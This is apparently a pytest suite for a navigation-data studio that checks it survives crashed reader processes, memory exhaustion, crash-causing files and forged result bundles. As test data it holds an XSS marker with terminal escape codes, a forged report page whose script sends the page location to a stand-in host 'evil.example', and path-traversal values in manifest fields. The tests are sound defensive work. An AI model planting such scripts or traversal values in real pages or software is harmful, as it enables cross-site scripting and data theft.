"""Hostile contents: what ends a reader ends no studio, and texts of files are shown escaped."""

from __future__ import annotations

import json
import os
import shutil
import signal
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from strapdown.bundle import MANIFEST, sha256
from strapdown.studio import reading_process
from strapdown.studio.folder import Folder
from strapdown.studio.reading_process import ReadingProcess, Refused

HOSTILE = Path(os.environ.get("STRAPDOWN_DATA", "/nowhere")).parent / "hostile"
MARK = "<img src=x onerror=alert(1)>\x1b[2J‮"


@pytest.fixture
def reader(tmp_path):
    one = ReadingProcess(Folder.open(tmp_path).path)
    yield one
    one.end()


def test_a_process_that_dies_is_said_and_replaced(reader):
    assert reader.ask("kinds")
    first = reader._process
    # It holds the question when it dies of it.
    os.kill(first.pid, signal.SIGSTOP)
    with ThreadPoolExecutor(1) as pool:
        asked = pool.submit(reader.ask, "kinds")
        time.sleep(0.3)
        os.kill(first.pid, signal.SIGKILL)
        with pytest.raises(Refused) as caught:
            asked.result(30)
    assert caught.value.error["code"] == "studio.reading-crashed"
    assert "SIGKILL" in caught.value.error["text"]
    assert reader.ask("kinds") and reader._process.pid != first.pid


def test_a_question_that_takes_too_long_is_ended(reader, monkeypatch):
    reader.ask("kinds")
    os.kill(reader._process.pid, signal.SIGSTOP)
    stopped = reader._process
    monkeypatch.setattr(reading_process, "SECONDS", 0.3)
    monkeypatch.setattr(reading_process, "seconds_most", lambda size: 0.2)
    begun = time.monotonic()
    with pytest.raises(Refused) as caught:
        reader.ask("kinds")
    assert caught.value.error["code"] == "studio.reading-out-of-time"
    assert time.monotonic() - begun < 10.0
    assert stopped.poll() == -signal.SIGKILL


def test_a_question_that_takes_too_much_memory_is_refused(reader, tmp_path, monkeypatch):
    rows = "\n".join(f"{k * 0.01:.2f},0,0,{k % 7},0,0,-9.8" for k in range(60_000))
    (tmp_path / "log.csv").write_text(f"time_s,gx,gy,gz,ax,ay,az\n{rows}\n", encoding="utf-8")
    reader.ask("kinds")
    monkeypatch.setattr(reading_process, "MEMORY", 1 << 20)
    monkeypatch.setattr(reading_process, "memory_most", lambda size: 0)
    monkeypatch.setattr(reading_process, "MEMORY_PER_BYTE", 0)
    with pytest.raises(Refused) as caught:
        reader.ask("look", names=["log.csv"], log={}, axes=None)
    assert caught.value.error["code"] in (
        *("studio.reading-out-of-memory", "studio.reading-crashed", "studio.reading-failed"),
    )
    monkeypatch.undo()
    assert reader.ask("kinds")


def test_it_ends_with_its_keeper(tmp_path):
    import subprocess
    import sys

    code = (
        "import os, sys\nfrom pathlib import Path\n"
        "from strapdown.studio.reading_process import ReadingProcess\n"
        "one = ReadingProcess(Path(sys.argv[1]))\none.ask('kinds')\n"
        "print(one._process.pid, flush=True)\nos.kill(os.getpid(), 9)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(Folder.open(tmp_path).path)],
        capture_output=True,
        text=True,
        check=False,
    )
    number = int(done.stdout)
    end = time.monotonic() + 10.0
    from strapdown.studio.jobs import process_began

    while process_began(number) and time.monotonic() < end:
        time.sleep(0.1)
    assert not process_began(number)


def listed(path):
    return sorted(p for p in path.rglob("*") if p.is_file())


@pytest.mark.skipif(not HOSTILE.is_dir(), reason="no folder hostile beside STRAPDOWN_DATA")
@pytest.mark.slow
def test_files_that_ended_a_reader_before_end_nothing(fresh):
    """Each is dropped, looked at, and proposed to every command; each answer has a code."""
    for one in sorted(HOSTILE.iterdir()):
        if one.is_dir():
            shutil.copytree(one, fresh.folder / f"h-{one.name}")
            for k, path in enumerate(listed(one)):
                assert fresh.put(f"{one.name} {k} {path.name}", path.read_bytes()).status == 201
    names = [one["name"] for one in fresh.ask("GET", "api/state").json["files"]]
    assert len(names) > 20
    before, codes = fresh.memory(), set()
    for name in names:
        if name.endswith(".toml"):
            text = (fresh.folder / name).read_text(encoding="utf-8", errors="replace")
            for kind in ("navigate", "crash", "attitude"):
                found = fresh.ask("POST", "api/check", {"kind": kind, "toml": text})
                assert found.status == 200 and found.json["errors"], (kind, name, found)
            continue
        answers = [fresh.ask("POST", "api/look", {"files": [name], "log": {}}, wait=300)]
        for kind in ("navigate", "align", "crash"):
            asked = {"kind": kind, "files": [name]}
            answers.append(fresh.ask("POST", "api/propose", asked, wait=300))
        for found in answers:
            assert found.status in (200, 400, 422), (name, found)
            if found.status != 200:
                codes.add(found.code)
    assert "studio.reading-failed" not in codes, codes
    assert fresh.ask("GET", "api/state").status == 200
    assert fresh.memory() - before < 200 << 20


def test_texts_of_a_file_are_shown_escaped(fresh):
    head = f"time_s,gyro_x,gyro_y,gyro_z,{MARK.strip()}"
    rows = "\n".join(f"{k * 0.01:.2f},0.1,0.2,{k % 3},1" for k in range(500))
    (fresh.folder / "marked.csv").write_text(f"{head}\n{rows}\n", encoding="utf-8")
    found = fresh.ask("POST", "api/look", {"files": ["marked.csv"], "log": {}})
    assert found.status == 200
    for one in (*found.json["findings"], *found.json["questions"]):
        assert "\x1b" not in one["text"] and "‮" not in one["text"]
    assert found.headers["content-type"] == "application/json"


def forged(folder: Path, **changes) -> Path:
    """A result that someone made."""
    place = folder / "forged"
    place.mkdir()
    page = "<script>fetch('/'); location = 'https://evil.example/?' + location</script>"
    files = {"report.html": page, "navigation.json": "{}", **changes.pop("files", {})}
    for name, text in files.items():
        (place / name).write_text(text, encoding="utf-8")
    manifest = {
        "schema": "strapdown bundle 2",
        "command": "navigate",
        "configuration": {"name": "x", "navigation": {}},
        "inputs": [],
        "outputs": [{"name": n, "sha256": sha256(place / n), "bytes": 1} for n in files],
        "versions": {},
        "platform": {},
        "environment": [],
        **changes,
    }
    (place / MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    return place


TRACK = "time_s,lat_deg,lon_deg,alt_m\n"


@pytest.mark.parametrize(
    "changes",
    [
        {"configuration": "text"},
        {"configuration": {"navigation": {"title": MARK, "aiding": [], "truth": 3}}},
        {"configuration": {"navigation": {"aiding": {"a": {"kind": "gnss", "path": "../x"}}}}},
        {"command": MARK},
        {"files": {"navigation.json": "[" * 5000}},
        {"files": {"navigation.json": '{"findings": 3, "answer": {}, "trust": []}'}},
        {"files": {"navigation.json": '{"findings": [1, {"code": 2, "sentence": {}}]}'}},
        {"files": {"trajectory.csv": ""}},
        {"files": {"trajectory.csv": TRACK}},
        {"files": {"trajectory.csv": TRACK + "0,x,y,z\n1,nan,inf,3\n"}},
        {"files": {"trajectory.csv": TRACK + "1,1,1,1\n0,2,2,2\n"}},
        {"files": {"trajectory.csv": "a,b\n\x00,\x00\n"}},
        {"files": {"trajectory.csv": TRACK + "0,1,2,3\n1,2,3,4\n", "sd.csv": "time_s\n0\n1\n"}},
        {"inputs": [{"role": "log", "name": "../../x", "kept": "copy", "sha256": "", "bytes": 0}]},
    ],
    ids=range(14),
)
def test_a_forged_result_ends_nothing(studio, changes):
    place = forged(studio.folder, **changes)
    try:
        state = studio.ask("GET", "api/state")
        assert state.status == 200
        for path in (
            "",
            "/series",
            "/track",
            "/export?as=zip",
            "/export?as=toml",
            "/export?as=gpx",
        ):
            found = studio.ask("GET", f"api/runs/forged{path}")
            assert found.status in (200, 400, 404, 422), (path, found)
            if found.status != 200:
                assert found.code != "studio.failed", (path, found)
        page = studio.ask("GET", "runs/forged/report.html")
        assert page.status in (200, 422)
        if page.status == 200:
            assert page.headers["content-security-policy"].startswith("sandbox allow-scripts;")
            assert page.headers["x-content-type-options"] == "nosniff"
    finally:
        shutil.rmtree(place)
